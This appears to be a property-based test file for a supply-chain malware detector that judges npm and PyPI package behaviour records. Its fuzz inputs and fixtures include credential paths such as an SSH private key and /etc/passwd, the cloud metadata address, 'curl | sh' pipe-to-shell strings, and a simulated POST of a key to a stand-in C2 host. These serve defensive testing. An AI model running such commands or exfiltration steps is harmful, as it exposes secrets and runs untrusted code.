import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Act, ActKind } from '../tracing/act.ts'
import { indicatorsOf } from './indicators.ts'
import { judge } from './judge.ts'
import { recordOf, sampleAbout } from './testing.ts'
import type { Sample } from './testing.ts'
import { Watcher } from './watcher.ts'

const KINDS: readonly ActKind[] = ['exec', 'read', 'write', 'delete', 'rename', 'link', 'mode', 'resolve', 'connect', 'listen', 'send', 'request', 'environment', 'signal', 'inject', 'memory', 'refused', 'sleep']
/** What attackers and accidents put into names. */
const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 60 }), fc.constantFrom('__proto__', 'constructor', '', '/', '..', '/home/mkeller/.ssh/id_rsa', '/home/mkeller/.bashrc', '\u202e\u0000\u001b[2J', 'https://[', 'https://c2.example/x', '203.0.113.9:4444', '[::1]:1', '/etc/passwd', '169.254.169.254', 'curl | sh', 'x'.repeat(9000)))
const act = fc.record({
  kind: fc.constantFrom(...KINDS), target: text, at: fc.integer({ min: -5, max: 1_000_000 }), pid: fc.integer({ min: 0, max: 6 }), done: fc.boolean(), other: text, name: text, method: text,
  argv: fc.array(text, { maxLength: 6 }), by: fc.option(fc.constantFrom('setup.js:3', '__proto__/x.js:1', 'a/b:0')), sample: text, bytes: fc.integer(), ms: fc.double(),
  honey: fc.array(fc.record({ token: text, encodings: fc.array(text, { maxLength: 3 }), where: fc.constant('body' as const) }), { maxLength: 2 }),
}, { requiredKeys: ['kind', 'target'] })

const sampleOf = (acts: Sample['acts'], ecosystem: 'npm' | 'pypi'): Sample => ({
  says: 'anything', ecosystem, acts, processes: [{ pid: 4, parent: 3, argv: ['sh', '-c', 'x'] }, { pid: 5, parent: 6, argv: ['node'] }, { pid: 6, parent: 5, argv: [''] }],
})

describe('whatever a record holds', () => {
  it('is judged without failing, the same each time, in text that people may see', () => {
    fc.assert(fc.property(fc.array(act, { maxLength: 25 }), fc.constantFrom('npm' as const, 'pypi' as const), (acts, ecosystem) => {
      const sample = sampleOf(acts as Sample['acts'], ecosystem)
      const runs = judge(recordOf(sample), sampleAbout(sample))
      expect(runs.filter(({ status }) => status !== 'ok')).toEqual([])
      expect(judge(recordOf(sample), sampleAbout(sample))).toEqual(runs)
      for (const { title, evidence } of runs.flatMap((run) => (run.status === 'ok' ? run.findings : []))) {
        for (const line of [title, ...evidence.flatMap(({ file, says, excerpt }) => [file, says, excerpt])]) {
          expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u)
          expect(line.length).toBeLessThanOrEqual(330)
        }
      }
      expect(() => indicatorsOf(recordOf(sample), sampleAbout(sample))).not.toThrow()
    }), { numRuns: 150 })
  })

  it('is not crowded out by a flood of something else', () => {
    const flood = Array.from({ length: 25_000 }, (_, n) => ({ kind: 'environment' as const, target: `V${n}`, at: 1 }))
    const sample = sampleOf([...flood, { kind: 'read', target: '/home/mkeller/.ssh/id_rsa', at: 2 }, { kind: 'request', target: 'https://c2.example/x', method: 'POST', at: 3, honey: [{ token: 'ssh-key', encodings: [], where: 'body' }] }], 'npm')
    const found = judge(recordOf(sample), sampleAbout(sample)).flatMap((run) => (run.status === 'ok' ? run.findings.map(({ detector }) => detector) : []))
    expect(found).toEqual(expect.arrayContaining(['did-read-credentials', 'did-send-secrets']))
  })

  it('is watched without failing', () => {
    fc.assert(fc.property(fc.array(act, { maxLength: 40 }), (acts) => {
      const watcher = new Watcher(sampleAbout({ says: '', acts: [] }))
      for (const { acts: real, processes } of recordOf(sampleOf(acts as Sample['acts'], 'npm')).phases) {
        for (const process of processes) watcher.meet(process)
        for (const one of real as readonly Act[]) expect(() => watcher.take(one, processes[0] ?? null)).not.toThrow()
      }
    }), { numRuns: 60 })
  })

  it('takes time as long as it is, not more', () => {
    const many = (count: number): Sample => ({ says: 'many', acts: Array.from({ length: count }, (_none, index) => ({ kind: KINDS[index % KINDS.length] as ActKind, target: `/home/mkeller/.ssh/${index}`, argv: ['sh', '-c', `curl https://c${index}.example | sh`], by: `setup.js:${index}` })) })
    expect(judge(recordOf(many(20_000)), sampleAbout(many(0))).length).toBeGreaterThan(30)
  })
})
